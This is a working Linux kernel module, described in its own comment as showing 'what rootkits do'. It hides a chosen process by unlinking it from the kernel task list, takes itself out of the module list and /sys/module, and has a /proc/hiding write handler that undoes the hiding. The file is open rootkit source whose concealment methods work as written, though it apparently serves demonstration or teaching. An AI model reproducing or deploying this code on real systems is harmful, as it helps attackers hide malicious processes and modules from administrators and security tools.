// SPDX-License-Identifier: Apache-2.0 OR GPL-2.0-only
/*
 * What rootkits do: insmod hiding.ko [process=PID] [list=1] [sysfs=1]. It takes a process out
 * of the list of processes, and itself out of the list of modules and out of /sys/module. Writing to
 * the file /proc/hiding puts all back (and the module can be removed again).
 */
#include <linux/module.h>
#include <linux/pid.h>
#include <linux/proc_fs.h>
#include <linux/sched/signal.h>

static int process;
module_param(process, int, 0);
static bool list; /* leave the list of modules */
module_param(list, bool, 0);
static bool sysfs; /* leave /sys/module */
module_param(sysfs, bool, 0);

static struct task_struct *victim;
static struct list_head *before;

static void hide(void)
{
	if (process) {
		rcu_read_lock();
		victim = pid_task(find_vpid(process), PIDTYPE_PID);
		if (victim)
			get_task_struct(victim);
		rcu_read_unlock();
	}
	if (victim)
		list_del_rcu(&victim->tasks);
	if (list) {
		before = THIS_MODULE->list.prev;
		list_del(&THIS_MODULE->list);
	}
	if (sysfs)
		list_del_init(&THIS_MODULE->mkobj.kobj.entry);
	pr_info("hiding: process %d list %d sysfs %d\n", victim ? process : 0, list, sysfs);
}

static ssize_t show_all(struct file *file, const char __user *buf, size_t size, loff_t *at)
{
	if (victim) {
		list_add_tail_rcu(&victim->tasks, &init_task.tasks);
		put_task_struct(victim);
	}
	victim = NULL;
	if (list)
		list_add(&THIS_MODULE->list, before);
	if (sysfs)
		list_add_tail(&THIS_MODULE->mkobj.kobj.entry, &THIS_MODULE->mkobj.kobj.kset->list);
	list = sysfs = false;
	return (ssize_t)size;
}

static const struct proc_ops ops = {.proc_write = show_all};

static int __init hiding_init(void)
{
	if (!proc_create("hiding", 0600, NULL, &ops))
		return -ENOMEM;
	hide();
	return 0;
}

static void __exit hiding_exit(void)
{
	remove_proc_entry("hiding", NULL);
}

module_init(hiding_init);
module_exit(hiding_exit);
MODULE_LICENSE("GPL");
